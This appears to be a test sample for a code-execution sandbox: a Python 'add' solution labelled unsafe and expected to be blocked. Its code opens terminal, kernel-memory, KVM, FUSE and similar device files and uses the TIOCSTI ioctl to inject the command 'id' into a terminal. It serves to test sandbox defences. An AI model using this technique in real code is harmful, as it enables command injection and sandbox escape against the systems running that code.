# problem: add
# verdict: wrong_answer | runtime_error | blocked
# why: Opens terminals, disks, kernel memory and FUSE.
# unsafe: true
import fcntl
import os


def add(a, b):
    for path in ("/dev/tty", "/dev/console", "/dev/ptmx", "/dev/fuse", "/dev/kvm", "/dev/mem", "/dev/net/tun", "/dev/loop0"):
        try:
            fd = os.open(path, os.O_RDWR)
        except OSError:
            continue
        for letter in b"id\n":
            try:
                fcntl.ioctl(fd, 0x5412, bytes([letter]))
            except OSError:
                pass
        return a + b
    return None
